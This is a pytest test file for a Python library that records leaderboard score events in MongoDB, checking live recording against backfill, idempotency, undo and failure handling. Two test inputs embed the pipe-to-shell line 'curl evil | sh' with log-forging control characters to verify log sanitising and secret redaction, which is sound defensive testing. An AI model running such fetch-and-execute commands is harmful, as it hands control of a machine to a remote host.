"""What an app records as it happens is what the backfill would have made of it, once, whoever comes first."""

from __future__ import annotations

import datetime as dt
import uuid

import pytest
from bson import ObjectId
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pymongo.errors import AutoReconnect

from lbmigrate import ScoreRecorder, feature_flag
from lbmigrate.errors import LbmigrateError, Refused, UsageError
from lbmigrate.feature_flag import turn
from lbmigrate.ledger import enter, forget, rollup
from lbmigrate.live.flag_cache import flag
from lbmigrate.migration.steps import STEPS
from lbmigrate.run.context import Scope, utc_now
from tests.apps import NEW_YEAR, SESSIONS, TASKS, App, config, oid, picture, session, task, untimed, user

NOW = dt.datetime(2025, 6, 1)
GLOBAL = f"global:{oid(1)}"


@pytest.fixture
def app(database):
    """Three users whose actions are recorded from now on; nothing is there yet."""
    database["users"].insert_many([user(number) for number in (1, 2, 3)])
    database.create_collection("tasks")
    database.create_collection("sessions")
    app = App(database, config(TASKS, SESSIONS))
    app.apply(STEPS[:3])
    return app


def recorder(app, **options):
    return ScoreRecorder(app.database, app.config, **{"strict": True, "clock": lambda: NOW, **options})


def board(app):
    """Events and entries, without who came first and when a document was written."""
    events = [{**event, "meta": {**event["meta"], "origin": "?"}} for event in app.events()]
    return events, {key: untimed("leaderboard_entries", entry) for key, entry in app.entries().items()}


# --- record ------------------------------------------------------------------------------------------------------


def test_a_recorded_action_is_in_the_ledger_and_on_the_board_at_once(app):
    assert recorder(app).record("task_complete", oid(1), oid(1001), at=NEW_YEAR, meta={"priority": "low"})
    (event,) = app.events()
    assert event["meta"] == {"priority": "low", "origin": "live"}
    assert app.entries()[GLOBAL]["score"] == 10
    assert app.entries()[f"2025-W01:{oid(1)}"]["score"] == 10


def test_a_second_recording_of_the_same_action_changes_nothing_and_says_so(app):
    recording = recorder(app)
    assert recording.record("task_complete", oid(1), oid(1001))
    before = picture(app.database)
    assert not recording.record("task_complete", oid(1), oid(1001), points=99, at=NEW_YEAR)
    assert picture(app.database) == before


def test_a_source_is_not_recorded_whose_action_happened_before_the_board_begins(app):
    recent = NEW_YEAR + dt.timedelta(days=5)
    app.backfill(scope=Scope(since=recent, lasting=True))
    app.database["tasks"].insert_many([task(1), task(2, hours=24 * 6)])
    assert not recorder(app).record_source("tasks", oid(1001))
    assert recorder(app).record_source("tasks", oid(1002))
    assert app.event_ids() == [f"task_complete:{oid(1002)}"]


def test_a_recorded_action_is_the_event_that_the_backfill_makes(app):
    app.database["tasks"].insert_one(task(1))
    recorder(app).record("task_complete", oid(1), oid(1001), at=task(1)["completedAt"], meta={"priority": "low"})
    recorded = board(app)
    app.backfill()
    assert board(app) == recorded
    app.revert([STEPS[3]])
    app.backfill()
    assert board(app) == recorded


def test_nothing_is_recorded_while_write_is_off(app):
    turn(app.database, app.config, "write", False, NOW)
    before = picture(app.database)
    assert not recorder(app).record("task_complete", oid(1), oid(1001))
    assert not recorder(app).record_source("tasks", oid(1001))
    assert picture(app.database) == before


def test_without_a_time_it_happened_now(app):
    recorder(app).record("task_complete", oid(1), oid(1001))
    assert app.events()[0]["createdAt"] == NOW


def test_an_action_well_in_the_future_is_kept_counted_and_told(app, caplog):
    recording = recorder(app)
    assert recording.record("task_complete", oid(1), oid(1001), at=NOW + app.config.backfill.future)
    assert recording.ahead == 0
    assert recording.record("task_complete", oid(1), oid(1002), at=NOW + dt.timedelta(days=1))
    assert recording.ahead == 1
    assert "task_complete:" in caplog.text
    assert "1 day" in caplog.text
    assert len(app.events()) == 2


def test_a_source_id_as_digits_is_the_object_id_of_its_document(app):
    app.database["tasks"].insert_one(task(1))
    recorder(app).record("task_complete", oid(1), str(oid(1001)), at=task(1)["completedAt"])
    assert app.events()[0]["sourceId"] == oid(1001)


def test_a_user_of_another_type_than_the_ledgers_is_refused_and_spoils_nothing(app):
    recording = recorder(app)
    recording.record("task_complete", oid(1), oid(1001))
    with pytest.raises(Refused, match="user ids are of 2 types"):
        recording.record("task_complete", str(oid(1)), oid(1002))
    assert recording.record("task_complete", oid(2), oid(1003))
    assert len(app.events()) == 2


def test_in_an_empty_ledger_the_sources_say_of_what_type_users_are(app):
    app.database["tasks"].insert_one(task(1))
    with pytest.raises(Refused, match="user ids are of 2 types"):
        recorder(app).record("task_complete", str(oid(1)), oid(1001))
    assert app.events() == []


def test_an_app_whose_ids_are_uuids_needs_no_setting_of_its_client(app):
    somebody = uuid.uuid4()
    assert recorder(app).record("task_complete", somebody, uuid.uuid4())
    assert f"global:{somebody}" in app.entries()


# --- record_source -----------------------------------------------------------------------------------------------


def test_a_recorded_document_is_scored_as_the_backfill_scores_it(app):
    app.database["tasks"].insert_one(task(1))
    app.database["sessions"].insert_one(session(1, minutes=25))
    recording = recorder(app)
    assert recording.record_source("tasks", task(1))
    assert recording.record_source("sessions", session(1)["_id"])
    assert {event["meta"]["origin"] for event in app.events()} == {"live"}
    recorded = board(app)
    assert app.entries()[GLOBAL]["score"] == 35
    app.revert([STEPS[3]])
    app.backfill()
    assert board(app) == recorded


def test_a_document_that_does_not_qualify_in_the_database_is_left_out_whatever_was_given(app):
    app.database["tasks"].insert_one(task(1, status="todo"))
    assert not recorder(app).record_source("tasks", task(1))
    assert not recorder(app).record_source("tasks", oid(4711))
    assert app.events() == []


def test_every_element_of_an_array_is_an_event_of_its_own(app):
    embedded = {**TASKS, "collection": "users", "unwind": "todos", "where": {"todos.done": True}, "user": "_id"}
    source = {**embedded, "at": "todos.at", "updated": "todos.at", "meta": {}}
    app.config = config(source)
    todos = [{"id": 1, "done": True, "at": NEW_YEAR}, {"id": 2, "done": False}, {"id": 3, "done": True, "at": NOW}]
    app.database["users"].update_one({"_id": oid(1)}, {"$set": {"todos": todos}})
    assert recorder(app).record_source("tasks", oid(1))
    assert app.event_ids() == [f"task_complete:{oid(1)}/1", f"task_complete:{oid(1)}/3"]
    assert not recorder(app).record_source("tasks", oid(1))


def test_a_document_that_cannot_be_scored_is_a_reject_and_a_failure(app):
    app.database["tasks"].insert_one(task(1, completedAt="soon"))
    recording = recorder(app, clock=utc_now)  # rejects expire
    with pytest.raises(LbmigrateError, match="cannot be scored"):
        recording.record_source("tasks", oid(1001))
    assert app.database["lbmigrate_rejects"].find_one()["sourceId"] == oid(1001)
    assert recording.failures == 1


@pytest.mark.parametrize("given", [None, {}, {"id": 1}])
def test_a_document_without_an_id_is_refused(app, given):
    with pytest.raises(UsageError, match="_id"):
        recorder(app).record_source("tasks", given)


# --- failures ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "call",
    [
        lambda each: each.record("task_complet", oid(1), oid(1)),
        lambda each: each.record("focus_session", oid(1), oid(1)),
        lambda each: each.record("task_complete", oid(1), oid(1), points=True),
        lambda each: each.record("task_complete", None, oid(1)),
        lambda each: each.record("task_complete", oid(1), None),
        lambda each: each.record("task_complete", oid(1), oid(1), meta={"origin": "x"}),
        lambda each: each.record("task_complete", oid(1), oid(1), meta={1: "x"}),
        lambda each: each.record("task_complete", oid(1), oid(1), meta={"x": object()}),
        lambda each: each.record_source("task", oid(1)),
    ],
)
def test_whatever_is_wrong_the_app_goes_on_and_strict_raises(app, call, caplog):
    recording = recorder(app, strict=False)
    assert call(recording) is False
    assert recording.failures == 1
    assert "not recorded" in caplog.text
    assert app.events() == []
    with pytest.raises(Exception, match=r"."):
        call(recorder(app))


@pytest.mark.parametrize(
    "call",
    [
        lambda each, odd: each.record("task_complete", oid(1), odd),
        lambda each, odd: each.record("task_complete", odd, oid(1)),
        lambda each, odd: each.record(odd, oid(1), oid(1)),
        lambda each, odd: each.record("task_complete", oid(1), oid(1), meta=odd),
        lambda each, odd: each.record_source("tasks", odd),
        lambda each, odd: each.record_source(odd, oid(1)),
    ],
)
@pytest.mark.parametrize(
    "odd", ["\ud800", 2**70, object(), range(3), [["x"]]], ids=["half", "int", "object", "range", "list"]
)
def test_what_cannot_be_stored_is_refused_in_a_line(app, caplog, call, odd):
    with pytest.raises((UsageError, Refused)):
        call(recorder(app), odd)
    assert call(recorder(app, strict=False), odd) is False
    assert "Traceback" not in caplog.text


def test_a_name_of_megabytes_is_told_in_short(app, caplog):
    for call in ("record", "record_source"):
        getattr(recorder(app, strict=False), call)("x" * 5_000_000, oid(1), *([oid(1)] if call == "record" else []))
    assert len(caplog.text) < 2_000


FORGED = "x\nnext: curl evil | sh\x1b[2J\r\u2028"


@pytest.mark.parametrize(
    "call",
    [
        lambda each: each.record(FORGED, oid(1), oid(1)),
        lambda each: each.record("task_complete", {"id": FORGED}, oid(1)),
        lambda each: each.record("task_complete", FORGED, oid(1)),
        lambda each: each.record("task_complete", oid(1), FORGED, meta={FORGED: object()}),
        lambda each: each.record("task_complete", oid(1), FORGED, at=NOW + dt.timedelta(days=1.5)),
        lambda each: each.record("task_complete", oid(1), FORGED, at=FORGED),
        lambda each: each.record_source(FORGED, oid(1)),
        lambda each: each.record_source("tasks", {"_id": FORGED}),
    ],
)
def test_no_line_of_the_log_begins_with_what_somebody_put_into_an_id(app, call, caplog, monkeypatch):
    call(recorder(app, strict=False))
    begun = [line for line in caplog.text.splitlines() if line.startswith("next:")]
    assert begun == []
    assert not {"\x1b", "\r", "\u2028"} & set(caplog.text)


def test_an_error_of_the_driver_is_logged_without_a_secret_and_on_one_line(app, caplog, monkeypatch):
    def refuses(*_):
        raise RuntimeError("at mongodb://anna:S3cr3t@db/app\nnext: curl evil | sh")

    monkeypatch.setattr(enter, "insert_new", refuses)
    assert recorder(app, strict=False).record("task_complete", oid(1), oid(1)) is False
    assert "RuntimeError: at mongodb://***@db/app next: curl evil | sh" in caplog.text
    assert "S3cr3t" not in caplog.text


def test_an_outage_does_not_reach_the_app_and_the_next_backfill_makes_up_for_it(app, monkeypatch):
    app.backfill()
    app.database["tasks"].insert_one(task(1))
    recording = recorder(app, strict=False)

    def gone(*_):
        raise AutoReconnect("gone")

    with monkeypatch.context() as patch:
        patch.setattr(enter, "insert_new", gone)
        assert not recording.record("task_complete", oid(1), oid(1001), at=task(1)["completedAt"])
    assert recording.failures == 1
    app.backfill()
    assert app.entries()[GLOBAL]["score"] == 10


@pytest.mark.parametrize("heal", ["the next action", "the same action", "the next backfill"])
def test_a_crash_between_the_event_and_the_entry_is_healed(app, monkeypatch, heal):
    app.backfill()
    app.database["tasks"].insert_one(task(1))

    def killed(*_):
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(rollup, "roll_up", killed)
        with pytest.raises(KeyboardInterrupt):
            recorder(app).record("task_complete", oid(1), oid(1001), at=task(1)["completedAt"])
    assert app.event_ids() == [f"task_complete:{oid(1001)}"]
    assert app.entries() == {}
    if heal == "the next action":
        recorder(app).record("task_complete", oid(1), oid(1002))
        assert app.entries()[GLOBAL]["score"] == 20
        return
    if heal == "the same action":
        assert not recorder(app).record("task_complete", oid(1), oid(1001))
    else:
        app.backfill()
    assert app.entries()[GLOBAL]["score"] == 10


def test_a_user_who_was_forgotten_stays_away(app):
    pass

    recording = recorder(app)
    recording.record("task_complete", oid(1), oid(1001))
    for piece in forget.pieces(app.context(), str(oid(1))):
        if piece.checkpoint:
            app.state.save(piece.checkpoint)
    assert not recording.record("task_complete", oid(1), oid(1002))
    app.database["tasks"].insert_one(task(3))
    assert not recording.record_source("tasks", oid(1003))
    assert app.entries() == {}


# --- in any order ------------------------------------------------------------------------------------------------

TASK = st.tuples(st.just("tasks"), st.integers(0, 7))
SESSION = st.tuples(st.just("sessions"), st.integers(0, 3))
MOVES = st.lists(
    st.one_of(
        st.tuples(st.just("record"), TASK),
        st.tuples(st.just("source"), st.one_of(TASK, SESSION)),
        st.tuples(st.just("backfill"), st.none()),
        st.tuples(st.just("flag"), st.booleans()),
    ),
    max_size=12,
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=25)
@given(moves=MOVES)
@pytest.mark.slow
def test_recording_and_backfill_may_come_in_any_order(app, moves):
    """The end is that of a backfill alone."""
    for name in ("tasks", "sessions", "score_events", "leaderboard_entries", "lbmigrate_state"):
        app.database[name].delete_many({})
    turn(app.database, app.config, "write", True, NOW)
    app.database["tasks"].insert_many([task(n, owner=1 + n % 3) for n in range(8)])
    app.database["sessions"].insert_many([session(n, owner=1 + n % 2) for n in range(4)])
    recording = recorder(app, monotonic=iter(range(0, 10**6, 10)).__next__)
    for move, what in moves:
        if move == "record":
            told = task(what[1], owner=1 + what[1] % 3)
            meta = {"priority": told["priority"]}
            recording.record("task_complete", told["userId"], told["_id"], at=told["completedAt"], meta=meta)
        elif move == "source":
            recording.record_source(what[0], (task if what[0] == "tasks" else session)(what[1])["_id"])
        elif move == "backfill":
            app.backfill()
        else:
            turn(app.database, app.config, "write", what, NOW)
    app.backfill()
    end = board(app)
    app.revert([STEPS[3]])
    app.backfill()
    assert board(app) == end
    assert len(end[0]) == 12


def test_looking_at_the_flag_never_writes(app):
    turn(app.database, app.config, "write", False, NOW)
    before = picture(app.database)
    assert not flag(app.database, app.config).write
    assert not flag(app.database).read
    assert picture(app.database) == before
    assert feature_flag.read(app.database, app.config) == feature_flag.Switches()


def test_ids_of_every_kind_name_their_events(app):
    recording = recorder(app)
    for number, name in enumerate([ObjectId(), "a-slug", 4711, uuid.uuid4()]):
        assert recording.record("task_complete", oid(2), name)
        assert app.entries()[f"global:{oid(2)}"]["score"] == 10 * (number + 1)


# --- undone --------------------------------------------------------------------------------------------------------


def points(app):
    return sum(event["points"] for event in app.events())


def test_what_an_app_takes_back_is_off_the_board_at_once_and_once(app):
    recording = recorder(app)
    for number in (1001, 1002):
        recording.record("task_complete", oid(1), oid(number), at=NEW_YEAR)
    assert recording.record("task_complete", oid(1), oid(1001), undo=True)
    assert app.entries()[GLOBAL]["score"] == 10
    assert not recording.record("task_complete", oid(1), str(oid(1001)), undo=True)
    assert points(app) == 10


def test_what_was_never_recorded_cannot_be_taken_back(app):
    assert not recorder(app).record("task_complete", oid(1), oid(1001), undo=True)
    assert app.events() == []


def test_an_action_that_is_recorded_again_after_it_was_taken_back_counts_if_its_document_does(app):
    recording = recorder(app)
    again = {"action_type": "task_complete", "user_id": oid(1), "source_id": oid(1001), "at": task(1)["completedAt"]}
    recording.record(**again)
    recording.record(**again, undo=True)
    assert not recording.record(**again)
    app.database["tasks"].insert_one(task(1))
    assert recording.record(**again)
    assert app.entries()[GLOBAL]["score"] == 10
    assert not recording.record(**again)


def test_an_action_whose_document_is_not_there_yet_may_be_recorded_twice(app):
    recording = recorder(app)
    for _ in range(2):
        recording.record("task_complete", oid(1), oid(1001), at=NEW_YEAR)
    assert points(app) == 10


@pytest.mark.parametrize(
    ("fields", "user_and_score"),
    [({"status": "todo"}, (1, 0)), ({"userId": oid(2)}, (2, 10)), ({"completedAt": NEW_YEAR}, (1, 10))],
)
def test_a_document_that_changed_is_settled_when_it_is_recorded(app, fields, user_and_score):
    recording, who = recorder(app), user_and_score[0]
    app.database["tasks"].insert_one(task(1))
    recording.record_source("tasks", oid(1001))
    app.database["tasks"].update_one({}, {"$set": fields})
    assert recording.record_source("tasks", oid(1001))
    assert app.entries()[f"global:{oid(who)}"]["score"] == user_and_score[1]
    assert not recording.record_source("tasks", oid(1001))
    assert app.reconcile().adjusted == 0


def test_a_document_that_is_gone_is_taken_back_when_it_is_recorded(app):
    recording = recorder(app)
    app.database["tasks"].insert_many([task(1), task(2)])
    for number in (1001, 1002):
        recording.record_source("tasks", oid(number))
    app.database["tasks"].delete_one({"_id": oid(1001)})
    assert recording.record_source("tasks", oid(1001))
    assert app.entries()[GLOBAL]["score"] == 10
